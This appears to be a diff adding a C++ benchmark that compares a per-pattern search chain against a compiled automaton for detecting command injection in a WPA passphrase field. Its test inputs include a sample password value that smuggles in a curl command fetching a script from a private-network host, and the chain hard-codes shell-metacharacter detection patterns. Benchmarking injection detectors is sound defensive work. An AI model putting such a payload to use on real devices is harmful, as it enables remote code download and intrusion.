@@ -0,0 +1,72 @@
+/**
+ * Compiled multi-pattern injection scan vs. the per-pattern search chain
+ *
+ * The chain is what handleSetPassword used to do: one full rescan per
+ * pattern (std::string::find standing in for Arduino's String::indexOf).
+ * Inputs: a clean 63-byte WPA passphrase, a typical exploit payload, and
+ * 240 bytes with no match, the chain's worst case.
+ */
+
+#include <benchmark/benchmark.h>
+#include <InjectionDetector.h>
+#include <string>
+
+static std::string benchInput(int64_t kind) {
+    switch (kind) {
+        case 0: return "Tr0ub4dor-and-correct-horse-battery-staple-7b1f4e2a9c0d55f31e6";
+        case 1: return "pass;$(curl -s http://10.0.0.2/x.sh -o /tmp/x.sh);#";
+        default: return std::string(240, 'q');
+    }
+}
+
+static void inputArgs(benchmark::internal::Benchmark* b) {
+    b->ArgName("input")->Arg(0)->Arg(1)->Arg(2);
+}
+
+// The original four-pattern chain
+static void BM_InjectionChain4(benchmark::State& state) {
+    std::string input = benchInput(state.range(0));
+    for (auto _ : state) {
+        bool hit = input.find(";$(") != std::string::npos ||
+                   input.find("`;") != std::string::npos ||
+                   input.find("&&") != std::string::npos ||
+                   input.find("||") != std::string::npos;
+        benchmark::DoNotOptimize(hit);
+    }
+    state.SetBytesProcessed(state.iterations() * input.size());
+}
+BENCHMARK(BM_InjectionChain4)->Apply(inputArgs);
+
+// The same chain extended to the full rule set, reporting every match
+static void BM_InjectionChainAll(benchmark::State& state) {
+    std::string input = benchInput(state.range(0));
+    for (auto _ : state) {
+        uint32_t hits = 0;
+        for (size_t rule = 0; rule < INJECTION_RULE_COUNT; rule++) {
+            if (input.find(INJECTION_RULES[rule].pattern) != std::string::npos) hits |= 1UL << rule;
+        }
+        benchmark::DoNotOptimize(hits);
+    }
+    state.SetBytesProcessed(state.iterations() * input.size());
+}
+BENCHMARK(BM_InjectionChainAll)->Apply(inputArgs);
+
+// Compiled automaton, full rule set, one pass
+static void BM_InjectionAutomaton(benchmark::State& state) {
+    std::string input = benchInput(state.range(0));
+    for (auto _ : state) {
+        benchmark::DoNotOptimize(scanInjection((const uint8_t*)input.data(), input.size()));
+    }
+    state.SetBytesProcessed(state.iterations() * input.size());
+}
+BENCHMARK(BM_InjectionAutomaton)->Apply(inputArgs);
+
+// The NUL-terminated form the emulator uses on reassembled fields
+static void BM_InjectionAutomatonString(benchmark::State& state) {
+    std::string input = benchInput(state.range(0));
+    for (auto _ : state) {
+        benchmark::DoNotOptimize(scanInjection(input.c_str()));
+    }
+    state.SetBytesProcessed(state.iterations() * input.size());
+}
+BENCHMARK(BM_InjectionAutomatonString)->Apply(inputArgs);